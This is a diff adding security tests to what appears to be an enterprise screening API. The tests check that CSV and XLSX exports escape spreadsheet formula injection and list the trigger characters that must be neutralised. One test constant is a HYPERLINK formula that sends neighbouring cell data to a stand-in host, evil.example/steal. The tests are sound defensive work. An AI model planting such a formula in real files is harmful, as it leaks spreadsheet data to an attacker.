@@ -99,3 +99,54 @@ def test_an_admin_deletes_a_run_and_the_runs_built_on_it_and_the_audit_log_says_
     assert entry["actor"] == "s-admin"
     assert entry["before"]["rows"] == 8 and entry["before"]["decisions"] == 1
     assert entry["before"]["dependent_runs"] == [impact["id"]]
+
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/steal?d="&B3&C3,"点击查看")'
+
+
+def test_a_formula_an_enterprise_gives_itself_is_text_in_every_export_format(bureau):
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from tests.population import AS_OF
+
+    c = bureau.client
+    p = profiles(1, seed=53)[0]
+    p["name"] = EVIL_NAME
+    # the enterprise's own account may name itself anything; the reviewer then exports
+    with bureau.app.state.sessionmaker() as db:
+        from tests.api.conftest import _actor
+
+        ent = _actor(db, "s-evil", "enterprise", p["credit_code"])
+    assert c.put(f"/v1/enterprises/{p['credit_code']}/profile", json=p, headers=ent.headers).status_code == 201
+    r = c.post(
+        "/v1/screenings/proactive",
+        json={"measures": ["rd-super-deduction"], "as_of": AS_OF.isoformat()},
+        headers=bureau.reviewer.headers,
+    )
+    bureau.drain()
+    run_id = r.json()["id"]
+    names = []
+    for fmt in ("csv", "xlsx"):
+        got = c.get(f"/v1/screenings/{run_id}/export?format={fmt}", headers=bureau.reviewer.headers)
+        assert got.status_code == 200
+        if fmt == "csv":
+            rows = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
+            names += [row[2] for row in rows if EVIL_NAME in row[2]]
+        else:
+            ws = load_workbook(io.BytesIO(got.content)).worksheets[0]
+            cells = [row[2] for row in ws.iter_rows(min_row=2) if EVIL_NAME in str(row[2].value)]
+            assert cells and all(cell.data_type == "s" for cell in cells)
+            names += [cell.value for cell in cells]
+    assert names == ["'" + EVIL_NAME] * 2
+
+
+def test_every_formula_trigger_is_neutralised():
+    from api.screening.services import _safe_cell
+
+    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\u3000=1"):
+        assert _safe_cell(text).startswith("'"), text
+    assert _safe_cell("不符合：研发费用占比") == "不符合：研发费用占比"
+    assert _safe_cell(12) == 12
